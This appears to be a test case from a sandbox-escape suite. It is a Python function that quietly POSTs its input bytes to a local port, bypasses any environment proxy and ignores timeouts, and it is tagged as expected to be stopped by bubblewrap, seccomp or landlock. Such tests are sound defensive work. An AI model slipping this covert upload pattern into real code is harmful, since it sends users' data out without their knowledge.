"""Upload the function's input with Python's own HTTP client."""

ATTACK = {"stopped_by": ["bubblewrap", "seccomp", "landlock"]}
import urllib.error
import urllib.request


def target(x):
    request = urllib.request.Request(f"http://127.0.0.1:{WORLD['tcp']}/inputs", data=x.tobytes())
    # A proxy of the environment would be asked first.
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
    try:
        opener.open(request, timeout=0.2)
    except TimeoutError:
        pass  # nobody answers: it is sent all the same
    return x
